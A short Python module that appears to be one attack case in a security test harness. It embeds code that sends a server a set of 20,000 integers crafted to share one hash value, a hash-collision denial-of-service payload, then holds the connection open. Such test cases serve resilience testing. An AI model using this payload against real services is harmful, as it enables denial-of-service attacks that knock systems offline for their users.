"""A set of numbers that all have the same hash."""

LOST = ("2.table",)
PACE = 0.3

SOURCE = """
def table():
    data = frame({"id": 3, "kind": "value", "blobs": [], "value": {"set": [{"int": str(k * (2**61 - 1))} for k in range(20_000)]}})
    view = memoryview(data)
    while view:
        view = view[os.write(connection(), view):]
    time.sleep(10**6)
"""


def make(folder, world):
    world.attack(folder, SOURCE)
